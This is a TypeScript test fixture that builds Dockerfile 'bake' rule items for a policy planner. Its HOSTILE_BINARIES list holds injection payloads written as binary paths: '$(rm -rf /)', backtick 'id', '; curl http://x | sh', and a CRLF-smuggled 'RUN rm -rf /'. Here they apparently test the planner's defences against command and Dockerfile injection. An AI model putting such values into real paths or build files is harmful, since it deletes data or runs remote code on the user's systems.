/** Building bake items the way the policy loader would hand them to the planner. */
import type { BakeItem } from '../../engine/plan/index.js';
import type { BakeRule } from '../../engine/policy/types.js';

export const HOSTILE_BINARIES = [
  '/usr/bin/x\n$(rm -rf /)',
  '/tmp/`id`/sh',
  '/usr/local/bin/evil; curl http://x | sh',
  '/bin/\r\nRUN rm -rf /',
];

export interface RuleSpec {
  id: string;
  policy?: string;
  target?: string;
  source: BakeRule['source'];
  binaries?: string[];
}

export function bakeItem(spec: RuleSpec): BakeItem {
  const rule: BakeRule = {
    id: spec.id,
    action: 'bake',
    paths: ['/usr/bin/*'],
    reason: 'needed at runtime',
    pos: { file: 'policies/checkout.yaml', line: 10, column: 7 },
    source: spec.source,
    dockerfile: 'Dockerfile',
    ...(spec.target === undefined ? {} : { target: spec.target }),
  };
  return { rule, policy: spec.policy ?? 'checkout', binaries: spec.binaries ?? HOSTILE_BINARIES };
}

export const apt = (
  id: string,
  name: string,
  extra: Partial<RuleSpec> & { version?: string } = {},
): BakeItem => {
  const { version, ...rest } = extra;
  return bakeItem({
    id,
    source: { kind: 'package', manager: 'apt', name, ...(version === undefined ? {} : { version }) },
    ...rest,
  });
};
